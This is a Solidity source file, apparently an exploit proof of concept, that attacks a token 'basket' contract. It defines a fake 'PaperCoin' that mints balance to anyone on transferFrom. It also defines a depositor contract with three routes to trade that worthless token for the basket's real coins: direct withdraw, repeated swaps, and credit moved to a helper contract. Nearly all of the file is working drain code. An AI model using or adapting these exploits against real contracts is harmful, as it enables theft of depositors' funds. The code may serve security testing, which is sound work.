// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IBasket {
    function deposit(address token, uint256 amount) external returns (uint256);

    function withdraw(address token, uint256 credit, address to) external returns (uint256);

    function swap(address from, address to, uint256 amountIn) external returns (uint256);

    function moveCredit(address to, uint256 credit) external;
}

interface IToken {
    function balanceOf(address account) external view returns (uint256);

    function transfer(address to, uint256 value) external returns (bool);

    function decimals() external view returns (uint8);
}

/// A coin that costs nothing to make.
contract PaperCoin {
    uint8 public constant decimals = 18;
    mapping(address => uint256) public balanceOf;

    function transferFrom(address, address to, uint256 value) external returns (bool) {
        balanceOf[to] += value;
        return true;
    }
}

/// Deposits paper and withdraws coins.
contract PaperDepositor {
    function run(IBasket basket, IToken coin, uint256 keep) external {
        PaperCoin paper = new PaperCoin();
        uint256 amount = (coin.balanceOf(address(basket)) - keep) * 10 ** (18 - coin.decimals());
        basket.deposit(address(paper), amount);
        basket.withdraw(address(coin), amount, msg.sender);
    }

    function runBySwap(IBasket basket, IToken coin, uint256 amount, uint256 times) external {
        PaperCoin paper = new PaperCoin();
        for (uint256 i = 0; i < times; i++) basket.swap(address(paper), address(coin), amount);
        coin.transfer(msg.sender, coin.balanceOf(address(this)));
    }

    function runByHelper(IBasket basket, IToken coin, uint256 amount) external {
        PaperCoin paper = new PaperCoin();
        basket.deposit(address(paper), amount);
        Helper helper = new Helper();
        basket.moveCredit(address(helper), amount);
        helper.withdraw(basket, coin, amount, msg.sender);
    }
}

contract Helper {
    function withdraw(IBasket basket, IToken coin, uint256 amount, address to) external {
        basket.withdraw(address(coin), amount, to);
    }
}
